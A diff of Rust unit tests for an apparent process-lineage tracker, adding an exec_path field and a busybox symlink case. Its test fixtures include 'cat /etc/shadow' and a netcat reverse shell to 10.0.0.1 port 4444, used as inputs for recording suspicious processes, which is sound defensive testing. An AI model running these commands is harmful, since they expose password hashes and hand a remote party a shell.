@@ -449,6 +449,7 @@ fn ancestors_are_filled_parent_first_and_bounded() {
             name: "p1".into(),
             exe: "/bin/p1".into(),
             exepath: "/bin/p1".into(),
+            exec_path: "/bin/p1".into(),
             cmdline: "p1 arg".into()
         }]
     );
@@ -738,6 +739,13 @@ mod lifecycle_records {
         apply(&mut t, &exec(2, 52, "/usr/bin/cat", "cat"));
         let c = t.get(52).expect("cat").clone();
         assert_eq!((c.cmdline.as_str(), c.cwd.as_str(), c.origin), ("cat /etc/shadow", "/etc", Origin::Proc));
+        // busybox's applets: /proc's executable is the binary a symlink leads to, the exec's
+        // path is the one it named (relative ones made absolute against the cwd).
+        fp.add(&P { argv: &["ls", "-l"], exe: "/bin/busybox", cwd: "/srv", ..P::new(53, 50, "ls", 9) });
+        apply(&mut t, &fork(3, 50, 53, "bash"));
+        apply(&mut t, &exec(4, 53, "../bin/ls", "ls"));
+        let c = t.get(53).expect("ls").clone();
+        assert_eq!((c.exepath.as_str(), c.exec_path.as_str()), ("/bin/busybox", "/bin/ls"));
     }
 
     #[test]
@@ -752,8 +760,8 @@ mod lifecycle_records {
         apply(&mut t, &exec_args(2, 53, "/bin/nc", "nc", &["nc", "10.0.0.1", "4444", "-e", "/bin/sh"]));
         let c = t.get(53).expect("nc").clone();
         assert_eq!(
-            (c.comm.as_str(), c.exepath.as_str(), c.cmdline.as_str(), c.origin),
-            ("nc", "/bin/nc", "nc 10.0.0.1 4444 -e /bin/sh", Origin::Exec)
+            (c.comm.as_str(), c.exepath.as_str(), c.exec_path.as_str(), c.cmdline.as_str(), c.origin),
+            ("nc", "/bin/nc", "/bin/nc", "nc 10.0.0.1 4444 -e /bin/sh", Origin::Exec)
         );
         // Then the shell's own record: /proc agrees with it, and is taken.
         apply(&mut t, &exec_args(3, 53, "/bin/sh", "sh", &["sh"]));
